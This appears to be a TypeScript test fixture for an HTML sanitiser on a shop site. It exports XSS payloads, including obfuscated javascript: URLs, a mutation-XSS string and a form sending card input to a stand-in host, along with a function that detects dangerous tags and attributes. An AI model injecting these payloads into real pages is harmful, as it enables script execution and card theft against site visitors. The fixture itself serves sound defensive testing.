/** HTML that tries to run scripts, style the page or collect data. */
export const hostileHtml = [
  '<script>steal()</script>',
  '<img src=x alt=x onerror=steal()>',
  '<a href="javascript:steal()">x</a>',
  '<a href=" java\tscript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<svg><script>steal()</script></svg>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<p style="position:fixed" class="checkout" id="root">x</p>',
  '<form action="https://evil.test"><input name=card></form>',
  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
]

/** Finds elements and attributes in sanitised HTML that could run scripts, restyle the page or imitate the shop. */
export function dangersIn(html: string) {
  const holder = new DOMParser().parseFromString(html, 'text/html').body
  return [...holder.querySelectorAll('*')].flatMap((element) => [
    ...(element.matches('script,iframe,object,embed,form,input,style,svg,math,link,meta,base')
      ? [element.tagName]
      : []),
    ...[...element.attributes]
      .filter(({ name }) => /^(?:on|style$|class$|id$|srcdoc$|action$)/.test(name))
      .map(({ name }) => name),
    ...[...element.attributes]
      .filter(({ value }) => /^\s*(?:j\s*a\s*v\s*a|data:|vb)/i.test(value))
      .map(({ value }) => value),
  ])
}

/** Harmless HTML that sanitising must not change. */
export const harmlessHtml =
  '<h2>Care</h2><p>Wipe <strong>gently</strong>, <a href="/care" title="How">read on</a> or <a href="tel:+4570123456">call</a>.</p><ul><li>Dry</li></ul>'
